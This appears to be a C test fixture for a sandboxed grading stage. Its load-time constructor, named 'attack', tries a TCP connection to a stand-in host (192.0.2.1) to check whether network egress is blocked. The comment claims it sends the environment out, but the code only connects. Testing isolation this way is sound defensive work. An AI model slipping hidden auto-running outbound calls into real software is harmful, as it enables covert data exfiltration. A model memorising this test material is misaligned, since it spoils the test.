/*
 * Sends its environment away, and is otherwise right: there is nobody to be
 * reached.
 *
 * Stage: 01-fork-exec
 * Base: solution
 * Score: 10
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
	struct sockaddr_in there = {.sin_family = AF_INET,
				    .sin_port = htons(9)};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	/* A way out would be a success, and that is told. */
	inet_pton(AF_INET, "192.0.2.1", &there.sin_addr);
	if (connect(fd, (struct sockaddr *)&there, sizeof(there)) == 0)
		_exit(1);
	close(fd);
}
